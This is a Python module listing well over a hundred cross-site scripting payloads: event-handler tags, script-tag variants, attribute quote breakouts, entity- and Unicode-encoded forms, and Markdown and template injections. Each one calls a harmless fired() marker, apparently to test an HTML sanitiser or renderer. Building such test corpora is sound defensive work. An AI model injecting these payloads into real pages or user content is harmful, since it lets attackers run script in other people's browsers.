"""Markup that runs a script where a page is careless: one hundred and more ways, each calling ``fired()``."""

from __future__ import annotations

TAGS = [
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "iframe",
    "marquee",
    "object data=x",
    "embed src=x",
    "select autofocus",
    "textarea autofocus",
    "math",
    "style",
    "x tabindex=1",
    "link",
    "form",
    "table",
    "button autofocus",
    "keygen autofocus",
    "isindex",
    "bgsound",
    "track",
    "a href=#",
]
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart", "onpointerenter"]

HANDLERS = [f"<{tag} {EVENTS[n % len(EVENTS)]}=fired()>" for n, tag in enumerate(TAGS)]
HANDLERS += [f"<{tag}/{EVENTS[(n + 3) % len(EVENTS)]}=fired()//" for n, tag in enumerate(TAGS)]

SCRIPTS = [
    "<script>fired()</script>",
    "<SCRIPT>fired()</SCRIPT>",
    "<scr<script>ipt>fired()</scr</script>ipt>",
    "<script src=data:,fired()></script>",
    "<script\x0c>fired()</script>",
    "<script/x>fired()</script >",
    "<svg><script>fired()</script></svg>",
    "<svg><script href=data:,fired() /></svg>",
    "<math><mtext><script>fired()</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=fired()>'>",
    "</title><script>fired()</script>",
    "</textarea><script>fired()</script>",
    "</script><script>fired()</script>",
    "--><script>fired()</script>",
    "]]><script>fired()</script>",
    "<!--><script>fired()</script>-->",
    "<iframe srcdoc='<script>parent.fired()</script>'>",
    "<iframe src=javascript:parent.fired()>",
    "<object data='data:text/html,<script>parent.fired()</script>'>",
    "<embed src=javascript:fired()>",
    "<template><script>fired()</script></template>",
    "<base href=javascript:fired()//>",
    "<meta http-equiv=refresh content='0;url=javascript:fired()'>",
    "<link rel=import href=data:,fired()>",
    "<mark><img src=x onerror=fired()></mark>",
    "</mark><img src=x onerror=fired()><mark>",
]

QUOTES = [
    '"><img src=x onerror=fired()>',
    "'><img src=x onerror=fired()>",
    '" onmouseover="fired()',
    "' onmouseover='fired()",
    '" autofocus onfocus="fired()',
    "' autofocus onfocus='fired()",
    '"onerror=fired() x="',
    "`><img src=x onerror=fired()>",
    '\\"><img src=x onerror=fired()>',
    "&quot;><img src=x onerror=fired()>",
    '"/><svg onload=fired()>',
    '" style="animation-name:x" onanimationstart="fired()',
    "' accesskey='x' onclick='fired()",
]

ENCODED = [
    "&lt;img src=x onerror=fired()&gt;",
    "&#60;img src=x onerror=fired()&#62;",
    "&#x3c;script&#x3e;fired()&#x3c;/script&#x3e;",
    "%3Cscript%3Efired()%3C/script%3E",
    "\\u003cscript\\u003efired()\\u003c/script\\u003e",
    "\uff1cscript\uff1efired()\uff1c/script\uff1e",
    "&amp;lt;script&amp;gt;fired()&amp;lt;/script&amp;gt;",
    "<\u200bscript>fired()</script>",
    "\u202e<script>fired()</script>",
    "<img src=x on\u00adrror=fired()>",
    "+ADw-script+AD4-fired()+ADw-/script+AD4-",
]

MARKDOWN = [
    "[x](javascript:fired())",
    "[x](JaVaScRiPt:fired())",
    "[x](javascript&colon;fired())",
    "[x](\x01javascript:fired())",
    "[x](data:text/html,<script>fired()</script>)",
    "[x](vbscript:fired())",
    "![x](javascript:fired())",
    '![x" onerror="fired()](x)',
    "<javascript:fired()>",
    "[x]: javascript:fired()\n\n[x]",
    '[x](https://x "><img src=x onerror=fired()>")',
    "```\n</code></pre><script>fired()</script>\n```",
    "```<img src=x onerror=fired()>\nx\n```",
    "| <img src=x onerror=fired()> |\n|---|\n| <svg onload=fired()> |",
    "# <img src=x onerror=fired()>\n\n# [x](javascript:fired())\n\n# </h2><script>fired()</script>",
    "<div><p>\n\n<img src=x onerror=fired()>",
    "[a](<javascript:fired()>)",
    "~~<svg onload=fired()>~~",
    "> <img src=x onerror=fired()>",
    "1. <script>fired()</script>",
    "\\<img src=x onerror=fired()>",
]

TEMPLATES = [
    "{{ 7|add:'7' }}<img src=x onerror=fired()>",
    "{% now 'Y' %}<svg onload=fired()>",
    "${fired()}",
    "#{fired()}",
    "<div hx-on:click=fired() hx-get=/ hx-trigger=load>",
    "<div data-hx-on--load=fired()>",
    "<a href=javascript:fired() autofocus onfocus=fired()>",
]

PAYLOADS = HANDLERS + SCRIPTS + QUOTES + ENCODED + MARKDOWN + TEMPLATES
